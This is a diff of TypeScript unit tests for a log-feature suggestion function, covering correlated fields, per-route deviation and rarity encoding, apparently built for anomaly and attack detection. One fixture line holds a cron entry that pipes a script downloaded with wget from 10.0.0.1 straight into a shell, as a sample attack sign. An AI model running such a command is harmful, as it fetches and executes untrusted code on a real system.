@@ -230,6 +230,32 @@ describe('suggestFeatures', () => {
     ]);
   });
 
+  it('makes no pair of fields that go together only because both follow from a third', () => {
+    let state = 7;
+    const draw = (n: number): number => {
+      state = (state * 48_271) % 2_147_483_647;
+      return state % n;
+    };
+    const logsOf = (loggerOf: (service: number, pod: number) => number): LogDocument[] =>
+      Array.from({ length: 1_000 }, (_none, row) => {
+        const [service, pod] = [draw(6), draw(3)];
+        return {
+          '@timestamp': new Date(start + row * 1_000).toISOString(),
+          service: { name: `service-${service}` },
+          kubernetes: { pod: { name: `service-${service}-${'xyz'[pod]}` } },
+          log: { logger: `logger.${service}.${loggerOf(service, pod)}` },
+        };
+      });
+    const pairsOf = (logs: readonly LogDocument[]) =>
+      suggestFeatures(logs, options).flatMap(({ definition: { fields } }) =>
+        fields?.includes('kubernetes.pod.name') === true ? [fields] : [],
+      );
+    expect(pairsOf(logsOf(() => draw(4)))).toEqual([]);
+    expect(pairsOf(logsOf((_service, pod) => (draw(20) === 0 ? 3 : pod)))).toEqual([
+      ['kubernetes.pod.name', 'log.logger'],
+    ]);
+  });
+
   it('compares what a line measures with the same line, and lines with what writes them', () => {
     const lines = ['cache filled', 'order accepted', 'job done'];
     const command = '(root) CMD (cd / && wget http://10.0.0.1/a.sh | sh)';
@@ -237,6 +263,8 @@ describe('suggestFeatures', () => {
       '@timestamp': new Date(start + row * 1_000).toISOString(),
       log: { level: row % 40 === 0 ? 'WARN' : 'INFO', logger: `logger.${'abcdef'[row % 6]}` },
       service: { name: `service-${row % 2}` },
+      // Another name of the service, which is no group of its own.
+      kubernetes: { container: { name: `container-${row % 2}` } },
       event: { duration: 90_000 + ((row * 7_919) % 10_000) },
       message: `${lines[row % 3]} for ${row}`,
     }));
@@ -339,4 +367,35 @@ it('looks at callers beside what they call, and at signs of attack as presets do
   expect(definitions.find(({ type }) => type === 'attack_signs')?.weight).toBe(
     PRESETS[0].definitions.find(({ type }) => type === 'attack_signs')?.weight,
   );
+});
+
+it('compares a gateway’s numbers within routes rather than within machines, and looks at who calls and at flags', () => {
+  const routes = ['charge', 'search', 'export', 'login', 'cart'];
+  const logs = Array.from({ length: 600 }, (_none, i) => {
+    const route = i % 5;
+    return {
+      '@timestamp': new Date(Date.UTC(2026, 2, 2) + i * 60_000).toISOString(),
+      consumer: `app-${'abcdefgh'[(i * 7) % 8]}`,
+      route_name: routes[route],
+      route_label_of_old: `r-${routes[route]}`,
+      upstream_host: `10.4.${route}.${i % 3}:8080`,
+      response_flags: i % 200 === 7 ? 'UF' : '-',
+      duration: 10 ** route + ((i * 37) % 11),
+      uid: `C${(i * 7919).toString(36)}x${(i * 104_729).toString(36)}longid`,
+    };
+  });
+  const definitions = suggestFeatures(logs, { timestampField: '@timestamp' }).map(
+    ({ definition }) => definition,
+  );
+  expect(definitions.find(({ field }) => field === 'duration')).toMatchObject({
+    type: 'deviation',
+    by: ['route_name'],
+  });
+  expect(definitions.find(({ field }) => field === 'consumer')).toMatchObject({ encoding: 'rarity' });
+  expect(definitions.find(({ type }) => type === 'combination')?.fields).toContain('consumer');
+  expect(definitions.find(({ field }) => field === 'response_flags')).toMatchObject({
+    type: 'category',
+    encoding: 'rarity',
+  });
+  expect(definitions.some(({ field }) => field === 'uid')).toBe(false);
 });
